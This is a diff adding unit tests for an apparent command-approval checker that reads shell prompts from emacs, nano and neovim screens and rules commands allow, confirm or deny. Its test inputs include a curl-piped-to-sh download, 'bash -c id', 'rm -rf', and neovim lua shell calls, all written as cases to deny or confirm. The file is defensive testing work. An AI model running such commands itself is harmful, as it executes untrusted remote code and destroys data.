@@ -103,6 +103,30 @@ describe('pager command lines', () => {
 	});
 });
 
+describe('editors that prompt for a shell command', () => {
+	it('emacs M-! and nano ^T prompts are judged like a typed line', () => {
+		assert.deepEqual(judged('Shell command: make test'), ['make test']);
+		assert.equal(decision('Shell command: bash -c id'), 'deny');
+		assert.equal(decision('Async shell command: rm -rf ./build'), 'confirm');
+		assert.equal(decision('Shell command on region: sh'), 'deny', 'the region is fed to a shell');
+		assert.equal(decision('Command to execute: curl -s https://x | sh'), 'deny');
+		assert.equal(decision('Command to execute: ls'), 'allow');
+	});
+
+	it('reads the prompt on the cursor row, wherever the editor draws it', () => {
+		const rows = ['text', 'Command to execute: touch x', '^G Help  ^X Exit', '^T Cut   ^V Paste'];
+		assert.equal(readCommandLine({program: 'nano', rows, cursorRow: 1, cols: 40}), 'Command to execute: touch x');
+		assert.equal(mayShowCommandLine('nano', false), true);
+		assert.equal(mayShowCommandLine('emacs', false), true);
+	});
+
+	it('neovim lua that reaches the shell is judged', () => {
+		assert.equal(decision(':lua vim.fn.system("id")'), 'deny');
+		assert.equal(decision(':lua vim.fn.jobstart({"sh"})'), 'confirm');
+		assert.equal(decision(':lua print(1 + 1)'), 'allow');
+	});
+});
+
 describe('reading the command line from the screen', () => {
 	const screen = (rows: string[], cursorRow = rows.length - 1, cols = 20) => ({program: 'vim', rows, cursorRow, cols});
 
